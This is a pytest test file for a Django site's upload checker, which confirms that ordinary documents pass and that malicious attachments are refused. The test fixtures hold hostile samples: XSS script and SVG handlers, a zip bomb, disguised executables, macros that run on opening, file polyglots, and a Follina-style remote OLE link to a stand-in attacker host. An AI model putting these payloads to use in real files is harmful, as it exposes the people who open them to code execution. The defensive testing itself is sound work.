"""The attachment checks read each container as an attacker would build it: real documents pass, and every
malicious one is refused with the reason a person can act on."""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from contributions.filetypes import ACTIVE, ENCRYPTED, MALFORMED, UNKNOWN, RefusedDocument, check_document

from . import documents


def check(data, name="bilaga"):
    return check_document(SimpleUploadedFile(name, data))


def refusal(data, name="bilaga"):
    with pytest.raises(RefusedDocument) as refused:
        check(data, name)
    return refused.value.reason


def test_real_documents_pass():
    assert check(documents.pdf_bytes()) == "pdf"
    assert check(documents.docx_bytes()) == "docx"
    assert check(documents.odt_bytes()) == "odt"
    # A clean handmade PDF and a DOCX with a picture and a hyperlink are ordinary documents too.
    assert check(
        documents.handmade_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", documents.PAGES, documents.PAGE)
    )
    link = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/hyperlink" Target="https://www.av.se/" TargetMode="External"/></Relationships>'
    )
    png = b"\x89PNG\r\n\x1a\n" + b"\x00" * 100
    extra = {"word/media/image1.png": png, "word/_rels/x.xml.rels": link}
    assert check(documents.docx_bytes(extra=extra)) == "docx"


def test_the_sites_own_guide_pdf_passes(client, content):
    """WeasyPrint's PDFs (object streams, fonts, links) are what many people will send back to us."""
    from methods.models import MethodGuidePage
    from tests.helpers import page_in

    guide = page_in(MethodGuidePage, "sv", slug="avvikelsehantering")
    response = client.get(guide.url + "pdf/")
    assert response.status_code == 200
    data = b"".join(response.streaming_content) if response.streaming else response.content
    assert check(data) == "pdf"


def test_a_two_gib_zip_bomb_named_docx_is_refused():
    bomb = documents.zip_bomb_docx()
    assert len(bomb) < 10 * 1024 * 1024  # small enough to pass the upload limit
    assert refusal(bomb, "rutin.docx") == MALFORMED


def test_too_many_entries_are_refused():
    assert refusal(documents.docx_with_many_entries()) == MALFORMED


@pytest.mark.parametrize(
    "extra",
    [
        {"word/media/setup.exe": b"MZ\x90\x00" + b"\x00" * 200},
        {"index.html": b"<!DOCTYPE html><html><script>alert(1)</script></html>"},
        # The same inside innocent names: the content gives them away.
        {"word/media/image2.png": b"MZ\x90\x00" + b"\x00" * 200},
        {"customXml/item9.xml": b"<html><body><script>alert(1)</script></body></html>"},
        {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 200},
        {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 200},
        {"word/media/inner.png": documents.docx_bytes()},  # an archive inside
    ],
    ids=["exe", "index.html", "exe-as-png", "html-as-xml", "macros", "ole-object", "nested-zip"],
)
def test_docx_with_active_content_is_refused(extra):
    assert refusal(documents.docx_bytes(extra=extra), "rutin.docx") == ACTIVE


def test_macro_enabled_docx_is_refused():
    data = documents.docx_bytes()
    import zipfile

    types = (
        zipfile.ZipFile(io.BytesIO(data))
        .read("[Content_Types].xml")
        .replace(b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")
    )
    assert refusal(documents.rezip(data, replace={"[Content_Types].xml": types})) == ACTIVE


def test_docx_fetching_a_remote_object_is_refused():
    """The Follina pattern (CVE-2022-30190): a relationship that loads an OLE object from a web address."""
    rels = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'relationships"><Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/oleObject" Target="http://angripare.example/x.html!" TargetMode="External"/>'
        b"</Relationships>"
    )
    data = documents.docx_bytes(replace={"word/_rels/document.xml.rels": rels})
    assert refusal(data) == ACTIVE


def test_zip_without_document_parts_is_not_a_document():
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")  # no content types, no relationships
    assert refusal(buffer.getvalue(), "rutin.docx") == UNKNOWN


@pytest.mark.parametrize(
    "extra",
    [
        {"Pictures/sida.html": b"<html><script>alert(1)</script></html>"},
        {"Basic/Standard/Module1.xml": b'<?xml version="1.0"?><script:module/>'},
        {"Scripts/python/run.py": b"import os"},
    ],
    ids=["html", "basic-macros", "python-script"],
)
def test_odt_with_active_content_is_refused(extra):
    assert refusal(documents.odt_bytes(extra=extra), "rutin.odt") == ACTIVE


def test_odt_running_a_macro_when_opened_is_refused():
    content = documents.ODT_CONTENT.replace(
        "<office:scripts/>",
        '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" '
        'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Run?language=Basic"/>'
        "</office:event-listeners></office:scripts>",
    )
    assert refusal(documents.odt_bytes(content=content), "rutin.odt") == ACTIVE


def test_odt_holding_html_as_its_content_is_refused():
    html = "<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
    assert refusal(documents.odt_bytes(content=html), "rutin.odt") == ACTIVE


@pytest.mark.parametrize(
    "build",
    [
        documents.pdf_with_javascript,
        documents.pdf_with_escaped_javascript,
        documents.pdf_with_javascript_in_an_object_stream,
        documents.pdf_with_attached_program,
    ],
)
def test_pdf_with_active_content_is_refused(build):
    assert refusal(build(), "rutin.pdf") == ACTIVE


def test_pdf_html_zip_polyglot_is_refused():
    assert refusal(documents.pdf_html_zip_polyglot(), "rutin.pdf") == MALFORMED
    # Without the ZIP part it is still a web page in disguise.
    html_only = documents.pdf_bytes().replace(b"%PDF-1.3\n", b"%PDF-1.3\n%<html><script>x</script>\n", 1)
    assert refusal(html_only, "rutin.pdf") == ACTIVE


def test_zip_with_a_pdf_in_front_or_data_hidden_between_entries_is_refused():
    docx = documents.docx_bytes()
    assert refusal(b"%PDF-1.4\n" + docx) == MALFORMED  # a PDF reader would open it
    assert refusal(docx + b"<html><script>alert(1)</script></html>") == MALFORMED
    first_entry_end = docx.index(b"PK\x03\x04", 4)
    hidden = docx[:first_entry_end] + b"<html><script>x</script></html>" + docx[first_entry_end:]
    assert refusal(hidden) == MALFORMED


def test_encrypted_pdf_is_refused():
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(documents.pdf_bytes())))
    writer.encrypt(user_password="", owner_password="hemligt", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    assert refusal(buffer.getvalue(), "rutin.pdf") == ENCRYPTED


@pytest.mark.parametrize(
    "extra",
    [
        # Windows drops a trailing dot or space when it unpacks a file: "run.bat." becomes run.bat.
        {"word/media/run.bat.": b"@echo off\r\npowershell -c evil\r\n"},
        {"index.html ": b"Hej <script>alert(1)</script>"},
        # A picture Word accepts, which runs its script when opened in a browser.
        {"word/media/image1.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'},
        {"word/media/image2.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'},
    ],
    ids=["trailing-dot", "trailing-space", "svg-script", "svg-handler"],
)
def test_docx_hiding_a_script_behind_its_name_is_refused(extra):
    assert refusal(documents.docx_bytes(extra=extra), "rutin.docx") in (ACTIVE, MALFORMED)


def test_a_plain_svg_picture_in_a_docx_passes():
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><circle cx="5" cy="5" r="4"/></svg>'
    assert check(documents.docx_bytes(extra={"word/media/image1.svg": svg})) == "docx"


def test_pdf_with_an_html_tag_carrying_an_event_handler_is_refused():
    # Opened as a web page (saved as .html, or served without its type), any tag with a handler runs.
    svg = documents.pdf_bytes().replace(b"%PDF-1.3\n", b"%PDF-1.3\n%<svg onload=alert(1)>\n", 1)
    assert refusal(svg, "rutin.pdf") == ACTIVE
    img = documents.pdf_bytes().replace(b"%PDF-1.3\n", b"%PDF-1.3\n%<img src=x onerror=alert(1)>\n", 1)
    assert refusal(img, "rutin.pdf") == ACTIVE
